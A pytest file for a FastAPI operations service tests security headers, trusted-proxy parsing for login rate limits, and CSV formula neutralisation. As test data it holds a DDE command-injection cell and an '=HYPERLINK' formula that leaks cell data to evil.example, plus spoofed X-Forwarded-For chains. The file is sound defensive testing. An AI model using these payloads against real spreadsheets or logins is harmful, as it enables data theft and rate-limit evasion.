"""Issue #10, the HTTP edges on the embedded store: security headers on every answer, trusted
proxies for the per-IP login limit, CSV formula neutralisation in every export."""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from ops_center.adapters.records import IncidentRecord
from ops_center.api.headers import content_security_policy, tiles_origin
from ops_center.api.routes.exports import neutralise
from ops_center.feed import Feed
from ops_center.security.proxies import ProxyConfigError, TrustedProxies
from ops_center.settings import OpsSettings
from tests.support.api import PASSWORD, Env, auth, sqlite_env

V1 = "/api/v1"


@pytest.fixture
def env(tmp_path: Path) -> Iterator[Env]:
    yield from sqlite_env(tmp_path / "hardening.db", max_body_bytes=2048)


# --- security headers ------------------------------------------------------------------------


def _assert_headers(r: object, what: str) -> None:
    headers = r.headers  # type: ignore[attr-defined]
    csp = headers.get("content-security-policy", "")
    assert "script-src 'self'" in csp and "'unsafe-inline'" not in csp, (what, csp)
    assert "frame-ancestors 'none'" in csp and "object-src 'none'" in csp, (what, csp)
    assert headers.get("x-content-type-options") == "nosniff", what
    assert headers.get("x-frame-options") == "DENY", what
    assert headers.get("referrer-policy") == "no-referrer", what


def test_every_kind_of_answer_carries_the_security_headers(env: Env) -> None:
    c, h = env.client, auth(env.tokens["admin"])
    answers = {
        "api": c.get(f"{V1}/me", headers=h),
        "screen": c.get("/screen/"),
        "screen asset": c.get("/screen/app.js"),
        "screen 404": c.get("/screen/nope.js"),
        "api 404": c.get(f"{V1}/nope"),
        "401": c.get(f"{V1}/me"),
        "405": c.delete(f"{V1}/me", headers=h),
        "422": c.get(f"{V1}/alerts?state=bogus", headers=h),
        "413": c.post(f"{V1}/incidents/inc-tn-1/notes", headers=h, json={"note": "x" * 5000}),
        "csv": c.get(f"{V1}/exports/incidents.csv", headers=h,
                     params={"start": (env.seed.now - timedelta(hours=1)).isoformat(),
                             "end": env.seed.now.isoformat()}),
        "health": c.get("/healthz"),
        "openapi": c.get("/openapi.json"),
    }
    assert answers["413"].status_code == 413 and answers["screen 404"].status_code == 404
    for what, r in answers.items():
        _assert_headers(r, what)


def test_the_docs_page_gets_its_own_policy_and_still_is_never_framed(env: Env) -> None:
    r = env.client.get("/docs")
    assert "frame-ancestors 'none'" in r.headers["content-security-policy"]
    assert r.headers["x-frame-options"] == "DENY"


def test_the_map_tiles_origin_is_allowed_for_images_only() -> None:
    csp = content_security_policy("https://tiles.example.vn:8443/osm/{z}/{x}/{y}.png")
    img = next(d for d in csp.split("; ") if d.startswith("img-src"))
    assert img == "img-src 'self' data: blob: https://tiles.example.vn:8443"
    assert "tiles.example.vn" not in csp.replace(img, "")
    assert tiles_origin("https://{s}.tile.example.org/{z}/{x}/{y}.png") == "https://*.tile.example.org"
    assert tiles_origin("javascript:alert(1)") is None and tiles_origin(None) is None
    assert "img-src 'self' data: blob:;" in content_security_policy(None)


# --- trusted proxies ---------------------------------------------------------------------------


def test_forwarded_for_is_read_only_from_a_trusted_peer() -> None:
    none = TrustedProxies.parse("")
    assert none.client("127.0.0.1", ["203.0.113.9"]) == "127.0.0.1"
    proxies = TrustedProxies.parse("10.0.0.0/8, 192.0.2.1,::1")
    assert proxies.client("198.51.100.7", ["203.0.113.9"]) == "198.51.100.7"  # untrusted peer
    assert proxies.client("10.1.2.3", ["203.0.113.9"]) == "203.0.113.9"
    # Spoofed entries left of the real client are ignored; trusted hops are skipped.
    assert proxies.client("10.1.2.3", ["6.6.6.6, 203.0.113.9, 10.9.9.9"]) == "203.0.113.9"
    assert proxies.client("::1", ["6.6.6.6", "203.0.113.9:5555"]) == "203.0.113.9"
    assert proxies.client("10.1.2.3", ["garbage, 10.2.2.2"]) == "10.2.2.2"
    assert proxies.client("10.1.2.3", []) == "10.1.2.3"
    with pytest.raises(ProxyConfigError):
        TrustedProxies.parse("10.0.0.0/8,not-an-ip")
    with pytest.raises(ValueError, match="not-an-ip"):  # refused when the settings load
        OpsSettings(environment="demo", trusted_proxies="10.0.0.0/8,not-an-ip")


def _login(client: TestClient, xff: str, password: str = "wrong-password") -> int:
    r = client.post(f"{V1}/auth/token", data={"username": "nobody", "password": password},
                    headers={"X-Forwarded-For": xff})
    return r.status_code


def test_the_login_limit_ignores_forwarded_for_from_an_untrusted_peer(tmp_path: Path) -> None:
    for env in sqlite_env(tmp_path / "p.db", login_attempts_per_ip=6, login_failures_per_user=1000):
        c = TestClient(env.app, client=("127.0.0.1", 4000))
        # A fresh X-Forwarded-For each time does not reset the count: the peer is counted.
        assert [_login(c, f"203.0.113.{i}") for i in range(7)] == [401] * 6 + [429]
        ips = {a.ip for a in env.repo.users.audit_entries(50, 0).items if a.actor == "nobody"}
        assert ips == {"127.0.0.1"}


def test_the_login_limit_counts_the_forwarded_client_behind_a_trusted_proxy(tmp_path: Path) -> None:
    for env in sqlite_env(tmp_path / "p.db", login_attempts_per_ip=6, login_failures_per_user=1000,
                          trusted_proxies="127.0.0.1"):
        c = TestClient(env.app, client=("127.0.0.1", 4000))
        assert [_login(c, "203.0.113.1") for _ in range(7)] == [401] * 6 + [429]
        assert _login(c, "203.0.113.2") == 401  # another client behind the same proxy
        # ... and a client cannot escape its count by prepending an address of its choice.
        assert _login(c, "6.6.6.6, 203.0.113.1") == 429
        ips = {a.ip for a in env.repo.users.audit_entries(50, 0).items if a.actor == "nobody"}
        assert ips == {"203.0.113.1", "203.0.113.2"}
        assert c.post(f"{V1}/auth/token", data={"username": "admin", "password": PASSWORD},
                      headers={"X-Forwarded-For": "203.0.113.3"}).status_code == 200


# --- CSV formula neutralisation -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3.5", "-3.5"),
        ("+7", "+7"),
        ("-1e-3", "-1e-3"),
        ("Ngập", "Ngập"),
        (-3.5, -3.5),
        ("", ""),
    ],
)
def test_cells_a_spreadsheet_would_run_are_neutralised(cell: object, expected: object) -> None:
    assert neutralise(cell) == expected


def test_an_incident_export_neutralises_a_title_made_from_a_registry_name(env: Env) -> None:
    # Titles are rendered from the registry's gateway names (ops_center/domain/incidents.py):
    # a name "=HYPERLINK(...)" in the registry reaches the export as the title's start.
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'
    now = env.seed.now
    env.repo.incidents.upsert_incident(IncidentRecord(
        id="inc-tn-evil", site="thong-nhat", kind="gateway_offline", severity="warning", state="open",
        title_vi=evil, title_en="@" + evil, opened_at=now - timedelta(minutes=5),
        updated_at=now - timedelta(minutes=5), assignee=None,
    ))
    r = env.client.get(f"{V1}/exports/incidents.csv", headers=auth(env.tokens["admin"]),
                       params={"start": (now - timedelta(hours=1)).isoformat(),
                               "end": (now + timedelta(minutes=1)).isoformat()})
    assert r.status_code == 200, r.text
    table = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"))))
    row = next(row for row in table if row[0] == "inc-tn-evil")
    assert row[5] == "'" + evil and row[6] == "'@" + evil


# --- the stream's Last-Event-ID ---------------------------------------------------------------


def test_a_hostile_last_event_id_asks_for_a_resync_and_never_raises() -> None:
    feed = Feed()
    feed.publish("alert", "thong-nhat", {"i": 1})

    async def scenario() -> None:
        for bad in (f"{feed.boot}-²", f"{feed.boot}-٣", f"{feed.boot}-{'9' * 60}", f"{feed.boot}-",
                    "-", "\x00", f"{feed.boot}-1e3"):
            sub, replay = feed.subscribe(lambda site: True, bad)
            sub.close()
            assert replay.resync or replay.events == [], bad

    asyncio.run(scenario())
